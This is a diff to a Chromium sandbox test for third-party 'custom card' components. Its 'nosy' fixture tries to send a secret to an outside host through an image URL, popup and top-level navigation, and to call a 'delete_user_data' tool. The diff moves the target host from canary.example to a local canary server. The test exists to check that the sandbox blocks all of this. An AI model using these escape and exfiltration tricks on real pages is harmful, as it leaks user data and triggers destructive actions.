@@ -1,5 +1,8 @@
 /** Components of skills: pages of somebody else's code, which draw a custom card and can do nothing else. */
-import { describe, expect, test } from "vitest";
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { hasChromium } from "../../harness/chromium.ts";
 import { withCards } from "./open-cards.ts";
 
@@ -17,7 +20,14 @@ const page = (script: string) => `<!doctype html><html><body><output>waiting</ou
     protocolVersion: "2026-01-26", appInfo: { name: "moon", version: "1" }, appCapabilities: {} } });
 </script></body></html>`;
 
-const COMPONENTS = {
+/** Where nothing may ever come: listens on another port of this machine, which no name server has to know. */
+const canary = createServer((request, response) => {
+  visits.push(request.url!);
+  response.end();
+});
+const visits: string[] = [];
+
+const components = (away: string) => ({
   moon: page(""),
   nosy: page(`
     async function onResult() {
@@ -30,10 +40,10 @@ const COMPONENTS = {
           const image = new Image();
           image.onload = () => done("loaded");
           image.onerror = () => fail(new Error("refused"));
-          image.src = "http://canary.example/x.png?d=secret";
+          image.src = "${away}/x.png?d=secret";
         }),
-        popup: () => { if (!window.open("http://canary.example/")) throw new Error("refused"); },
-        top: () => { top.location.href = "http://canary.example/"; },
+        popup: () => { if (!window.open("${away}/")) throw new Error("refused"); },
+        top: () => { top.location.href = "${away}/"; },
         tool: () => new Promise((done, fail) => {
           addEventListener("message", ({ data }) => data.id === 7 && (data.error ? fail(data.error) : done("answered")));
           send({ id: 7, method: "tools/call", params: { name: "delete_user_data", arguments: { path: "a" } } });
@@ -50,12 +60,19 @@ const COMPONENTS = {
     function onResult() { for (let n = 0; n < 5000; n += 1) send({ method: "ui/notifications/size-changed", params: { height: n } }); }`),
   giant: page(`
     function onResult({ data }) { show("drawn"); send({ method: "ui/notifications/size-changed", params: { height: 1e9 } }); }`),
-};
+});
 
 describe.skipIf(!hasChromium)("custom cards in Chromium", () => {
   const { open, show, server, faults } = withCards();
-  const showCustom = async (component_id: keyof typeof COMPONENTS | "absent", data: object) => {
-    const html = component_id === "absent" ? undefined : COMPONENTS[component_id];
+  let away: string;
+  beforeAll(async () => {
+    canary.listen(0, "127.0.0.1");
+    await once(canary, "listening");
+    away = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+  });
+  afterAll(() => canary.close());
+  const showCustom = async (component_id: keyof ReturnType<typeof components> | "absent", data: object) => {
+    const html = component_id === "absent" ? undefined : components(away)[component_id];
     if (html) server().etui.cardComponents.register("moon", { component_id, html });
     const page = await open(`/cards/${await show("custom", { data }, { component_id })}`);
     return { page, frame: page.frameLocator("iframe") };
@@ -70,10 +87,8 @@ describe.skipIf(!hasChromium)("custom cards in Chromium", () => {
 
   test("reach neither the page nor its session, the network or a tool", async () => {
     const { page, frame } = await showCustom("nosy", { a: 1 });
-    const foreign: string[] = [];
-    page.on("request", (request) => request.url().includes("canary") && foreign.push(request.url()));
     await frame.getByText("reached: .").waitFor();
-    expect(foreign).toEqual([]);
+    expect(visits).toEqual([]);
     expect(page.url()).toContain("/cards/");
     await page.close();
   });
@@ -103,7 +118,9 @@ describe.skipIf(!hasChromium)("custom cards in Chromium", () => {
     expect(
       faults.filter(
         (fault) =>
-          !/sandbox|canary|Content Security Policy|Failed to (load|execute)|broken from/i.test(fault),
+          !/sandbox|127\.0\.0\.1:\d+\/(x|$)|Content Security Policy|Failed to (load|execute)|broken from/i.test(
+            fault,
+          ),
       ),
     ).toEqual([]);
   });
